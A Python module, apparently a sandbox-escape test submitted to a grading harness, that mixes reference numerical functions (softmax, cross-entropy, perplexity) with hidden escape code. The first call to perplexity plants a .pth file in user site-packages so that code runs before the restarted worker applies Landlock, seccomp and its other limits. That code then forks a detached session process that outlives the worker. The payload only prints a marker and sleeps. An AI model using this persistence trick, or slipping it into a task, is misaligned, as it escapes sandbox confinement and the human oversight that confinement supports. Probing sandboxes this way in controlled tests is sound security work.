"""Plants a .pth file in the user site-packages of its own home, then ends its worker.

Its home is its private folder, which outlives a worker the submission ends, and Python adds the
user's site-packages under the home to the path of every interpreter it starts, running each .pth
file's "import" line as it starts: before the restarted worker confines itself (its limits, Landlock,
the seccomp filter, the guard). The planted line says so in the output and starts a process of its
own in a session of its own, which a worker's process group does not hold. perplexity, the first
function it is called on, plants and ends the worker once; after that it answers as the reference
does. The other functions are the reference.
"""
import math
import os
import site

import numpy as np


MARKER = "__MARKER__"
PAYLOAD = (
    "import os, sys; sys.stdout.write('" + MARKER + ": planted code ran before the worker was confined\\n'); "
    "sys.stdout.flush(); os.fork() == 0 and (os.setsid(), os.execve('/bin/sleep', ['sleep', '30'], {'MARK': '" + MARKER + "'}))\n"
)
PLANTED = os.path.join(site.getusersitepackages(), f"zz_{MARKER}.pth")


def _shifted_and_rest(logits):
    """Logits minus their max, and the sum of exp over every entry but one maximal one.

    Keeping that sum apart from the max's own exp(0) = 1 lets log1p see it whole, so a loss of
    1e-20 comes out as 1e-20 instead of log(1.0) = 0.
    """
    z = np.asarray(logits, dtype=np.float64)
    top = int(np.argmax(z))
    shifted = z - z[top]
    exps = np.exp(shifted)
    exps[top] = 0.0
    return shifted, float(np.sum(exps))


def log_softmax(logits):
    shifted, rest = _shifted_and_rest(logits)
    return (shifted - math.log1p(rest)).tolist()


def softmax(logits):
    shifted, rest = _shifted_and_rest(logits)
    return (np.exp(shifted) / (1.0 + rest)).tolist()


def cross_entropy_loss(logits, true_id):
    shifted, rest = _shifted_and_rest(logits)
    return math.log1p(rest) - float(shifted[true_id])


def sequence_loss(logits_list, true_ids):
    losses = [cross_entropy_loss(z, t) for z, t in zip(logits_list, true_ids)]
    return math.fsum(losses) / len(losses)


def perplexity(loss):
    if not os.path.exists(PLANTED):
        os.makedirs(os.path.dirname(PLANTED), exist_ok=True)
        with open(PLANTED, "w") as handle:
            handle.write(PAYLOAD)
        print(f"planted {PLANTED}")
        os._exit(0)
    try:
        return math.exp(loss)
    except OverflowError:
        return math.inf


def softmax_cross_entropy_grad(logits, true_id):
    grad = softmax(logits)
    # p[t] - 1 = exp(-loss) - 1: expm1 keeps its digits when p[t] is within 1e-16 of one.
    grad[true_id] = math.expm1(-cross_entropy_loss(logits, true_id))
    return grad
